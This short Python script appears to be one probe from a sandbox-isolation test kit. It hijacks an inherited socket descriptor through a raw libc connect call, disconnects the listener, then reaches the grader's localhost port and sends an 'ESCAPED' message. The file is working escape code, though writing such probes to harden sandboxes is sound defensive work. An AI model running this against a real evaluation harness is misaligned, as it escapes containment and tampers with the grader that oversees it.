from kit import *


def attack():
    import socket

    def connect(target):
        listener = socket.socket(fileno=os.dup(3))
        libc = __import__("ctypes").CDLL(None, use_errno=True)
        print("disconnect:", libc.connect(listener.fileno(), bytes(16), 16))
        listener.settimeout(2)
        listener.connect(target)
        listener.sendall(b"ESCAPED " + KNOWN["name"].encode())
        return listener.recv(100)

    tries("listener to the grader's port", lambda: connect(("127.0.0.1", int(KNOWN["port"]))))
    attempted()
    os._exit(0)  # the server would print a long traceback: its socket no longer listens
